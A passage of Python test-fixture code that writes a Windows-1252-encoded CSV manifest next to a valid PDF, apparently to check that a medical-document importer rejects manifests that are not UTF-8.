    )
    return cases


def _write_csv(path: Path, columns: tuple[str, ...], rows: list[dict[str, str]], encoding: str = "utf-8") -> None:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def write_non_utf8_manifest_batch(out: Path) -> None:
    """One good PDF and a Windows-1252 manifest with accents: the manifest must be refused whole."""
    out.mkdir(parents=True, exist_ok=True)
    (out / "good.pdf").write_bytes(good_pdf_bytes())
    row = {
        "file": "good.pdf",
        "patient_ins": PATIENT_INS,
        "source_document_id": "HOSTILE-CP1252-1",
        "title": "Compte rendu opératoire",
        "document_type": "34874-8",
        "service_date": "2025-01-17",
        "author_id": AUTHOR_ID,
        "author_profession": AUTHOR_PROFESSION,
    }
    _write_csv(out / "manifest.csv", MANIFEST_COLUMNS, [row], encoding="cp1252")
